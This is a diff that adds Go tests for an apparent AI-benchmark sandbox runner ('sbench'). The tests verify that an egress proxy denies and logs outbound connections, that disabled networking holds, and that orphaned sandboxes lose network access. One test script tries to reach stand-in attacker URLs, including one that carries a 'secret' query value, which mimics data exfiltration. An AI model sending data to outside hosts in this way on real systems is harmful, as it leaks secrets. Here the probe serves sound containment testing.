@@ -1,0 +1,134 @@
+package main
+
+import (
+	"encoding/json"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"syscall"
+	"testing"
+
+	"github.com/securebench/sbench/runtime/containerd/containerdtest"
+)
+
+// egressPack is a terminal task whose harness is given a way out.
+func (h host) egressPack(command, more string) string {
+	h.t.Helper()
+	dir := h.t.TempDir()
+	script, err := json.Marshal(command)
+	check(h.t, err)
+	for name, text := range map[string]string{
+		"manifest.yaml": "id: p\nversion: 1\ndefaults: {family: terminal_task, environment: {image: '" + containerdtest.Image + "', timeout_seconds: 300}}\n",
+		"tasks.jsonl": `{"id": "open", "input": {"instructions": "x"}, "eval": {"checker": {"command": "true"}}}` + "\n" +
+			`{"id": "closed", "input": {"instructions": "x"}, "eval": {"checker": {"command": "true"}}, "environment": {"network": "none"}}` + "\n",
+		"tester.yaml": "schema_version: '0.2'\nrun: {id: r, output_dir: out}\nbenchmark: {manifest: manifest.yaml, tasks: tasks.jsonl}\n" + more +
+			"harness: {type: command, config: {allowed_domains: [allowed.invalid], command: " + string(script) + "}}\n",
+	} {
+		check(h.t, os.WriteFile(filepath.Join(dir, name), []byte(text), 0o644))
+	}
+	return filepath.Join(dir, "tester.yaml")
+}
+
+// TestCommandWayOut: a command harness is told of its proxy, which refuses and
+// logs; network none beats the tester file.
+func TestCommandWayOut(t *testing.T) {
+	h := newHost(t)
+	tester := h.egressPack(`env | grep -i proxy | sort; cat /etc/resolv.conf
+python3 - <<'P'
+import urllib.request as u
+for url in ("https://evil.invalid/", "http://evil.invalid/?q=secret", "https://allowed.invalid/", "http://127.0.0.1:22/"):
+    try: u.urlopen(url, timeout=20); print(url, "reached")
+    except Exception as e: print(url, e)
+P`, "runtime: {network: {transparent: true}}\n")
+	output := filepath.Join(h.dir, "out")
+	h.sbench(0, "run", "--quiet", "--config", tester, "--output-dir", output)
+	type line struct {
+		Task   string `json:"task_id"`
+		Out    string `json:"producer_stdout"`
+		Open   bool   `json:"network_enabled"`
+		Egress *struct {
+			Proxy struct{ Denied, Errors int }
+		} `json:"egress"`
+	}
+	records := map[string]line{}
+	text, err := os.ReadFile(filepath.Join(output, "candidates.jsonl"))
+	check(t, err)
+	for row := range strings.Lines(string(text)) {
+		var r line
+		check(t, json.Unmarshal([]byte(row), &r))
+		records[r.Task] = r
+	}
+	open := records["open"]
+	for _, want := range []string{"HTTPS_PROXY=http://127.0.0.1:3128", "https_proxy=", "ALL_PROXY=", "no_proxy=127.0.0.1,localhost", "nameserver 127.0.0.1", "evil.invalid/ <urlopen error Tunnel connection failed: 403", "evil.invalid/?q=secret HTTP Error 403"} {
+		if !strings.Contains(open.Out, want) {
+			t.Errorf("the harness does not say %q:\n%s", want, open.Out)
+		}
+	}
+	if strings.Contains(open.Out, "reached") || !open.Open || open.Egress == nil || open.Egress.Proxy.Denied < 2 {
+		t.Errorf("%+v", open)
+	}
+	if closed := records["closed"]; strings.Contains(closed.Out, "PROXY") || strings.Contains(closed.Out, "reached") || closed.Egress != nil {
+		t.Errorf("network none: %+v", closed)
+	}
+	log, err := os.ReadFile(filepath.Join(output, "egress.jsonl"))
+	check(t, err)
+	for _, want := range []string{`"kind":"connect","host":"evil.invalid","port":443`, `"verdict":"deny"`, `"host":"allowed.invalid"`, `"verdict":"error"`, `"task":"open"`} {
+		if !strings.Contains(string(log), want) {
+			t.Errorf("the egress log lacks %s:\n%s", want, log)
+		}
+	}
+	if strings.Contains(string(log), "secret") || strings.Contains(string(log), `"task":"closed"`) {
+		t.Errorf("the egress log holds too much:\n%s", log)
+	}
+	h.sbench(0, "verify", output)
+}
+
+// TestKilledWayOut: with sbench, a sandbox that outlives it loses its way out.
+func TestKilledWayOut(t *testing.T) {
+	h := newHost(t)
+	before := h.runs()
+	tester := h.egressPack("sleep 3000; : "+h.mark("way-out"), "")
+	cmd := exec.Command("sbench", "run", "--quiet", "--config", tester, "--task", "open", "--output-dir", filepath.Join(h.dir, "out"))
+	cmd.Env = h.env
+	check(t, cmd.Start())
+	h.await("way-out")
+	inside := h.pidOf("way-out")
+	dial := func() string {
+		out, _ := exec.Command("nsenter", "--net=/proc/"+inside+"/ns/net", "python3", "-c",
+			"import socket; socket.create_connection(('127.0.0.1', 3128), 5); print('open')").CombinedOutput()
+		return string(out)
+	}
+	if got := dial(); got != "open\n" {
+		t.Errorf("while sbench lives: %s", got)
+	}
+	check(t, cmd.Process.Signal(syscall.SIGKILL))
+	_ = cmd.Wait()
+	if !h.alive("way-out") {
+		t.Error("the sandbox died with its owner, so that this test shows nothing")
+	}
+	if got := dial(); !strings.Contains(got, "ConnectionRefusedError") {
+		t.Errorf("after its end: %s", got)
+	}
+	dead := difference(h.runs(), before)
+	h.sbench(0, "gc")
+	for _, run := range dead {
+		if left := h.left(run); len(left) > 0 {
+			t.Errorf("left behind: %v", left)
+		}
+	}
+}
+
+// pidOf is a process that alive sees.
+func (h host) pidOf(name string) string {
+	h.t.Helper()
+	found, err := filepath.Glob("/proc/[0-9]*/cmdline")
+	check(h.t, err)
+	for _, f := range found {
+		if line, err := os.ReadFile(f); err == nil && strings.Contains(string(line), "sleep 3") && strings.Contains(string(line), h.mark(name)) {
+			return filepath.Base(filepath.Dir(f))
+		}
+	}
+	h.t.Fatalf("no process of %s", name)
+	return ""
+}
